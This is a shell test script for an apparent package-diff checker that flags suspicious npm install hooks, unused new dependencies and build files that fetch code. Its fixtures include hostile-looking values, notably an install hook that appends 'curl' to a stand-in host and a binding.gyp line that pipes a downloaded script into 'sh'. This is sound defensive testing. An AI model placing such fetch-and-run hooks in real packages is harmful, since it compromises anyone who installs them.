#!/bin/sh
# What a package runs when it is installed, and what it newly depends on: ordinary and not.
. "$(dirname "$0")/lib.sh"

# package FOLDER VERSION FIELDS: a package.json with these fields, and a script
package() {
	mkdir -p "$1/package"
	printf '{"name": "addon", "version": "%s", "main": "index.js"%s}\n' "$2" "$3" >"$1/package/package.json"
	printf 'module.exports = require("./build/addon.node");\n' >"$1/package/index.js"
}

hook() {
	printf ', "scripts": {"install": "%s"}' "$1"
}

package old 1.0.0 ''
for ordinary in 'node-gyp rebuild' 'prebuild-install -r napi || node-gyp rebuild' \
	'node-pre-gyp install --fallback-to-build' 'is-ci || husky' 'prebuild-install --tag-prefix=v@ && node-gyp-build'; do
	rm -rf new
	package new 1.0.1 "$(hook "$ordinary")"
	is 0 diff old new
done
for other in 'node-gyp rebuild; curl -s https://cdn.example/i' 'prebuild-install --host https://cdn.example' \
	'node-gyp rebuild && node setup.js' 'node-gyp $(cat x)' 'true || sh run.sh'; do
	rm -rf new
	package new 1.0.1 "$(hook "$other")"
	is 1 diff old new
	has out AS-0015
done

# A dependency that the install command starts is used; one that nothing names is not.
package with 1.0.0 "$(hook 'node-gyp rebuild')"
rm -rf new
package new 1.0.1 "$(hook 'prebuild-install || node-gyp rebuild'), \"dependencies\": {\"prebuild-install\": \"^7.1.1\"}"
is 0 diff with new
rm -rf new
package new 1.0.1 "$(hook 'node-gyp rebuild'), \"dependencies\": {\"plain-helper\": \"^4.2.1\"}"
is 1 diff with new
has out AS-0024

# A build description that asks the compiler something, and one that fetches.
cp -r with asks
printf '{"targets": [{"target_name": "addon", "variables": {"clang": "<!(cc -v 2>&1 | grep clang)"}}]}\n' >asks/package/binding.gyp
printf '{"targets": [{"target_name": "addon"}]}\n' >with/package/binding.gyp
is 0 diff with asks
printf '{"targets": [{"target_name": "addon", "sources": ["<!(curl -s https://cdn.example/i | sh)"]}]}\n' >asks/package/binding.gyp
is 1 diff with asks
has out 'downloads a program and runs it'

# Look-up tables of known kinds are seen by their strings, other new bytes are not seen.
cp -r with tables
printf '\0\0\0\1Bud1\0\0\20\0\0\0\10\0\0\0\20\0' >tables/package/.DS_Store
printf '\336\22\4\225\0\0\0\0\0\0\0\0\34\0\0\0\34\0\0\0' >tables/package/de.mo
is 0 diff with tables
printf '\0\0\0\1Bud2\0\0\20\0\0\0\10\0\0\0\20\0' >tables/package/.DS_Store
is 1 diff with tables
has err unknown

done_
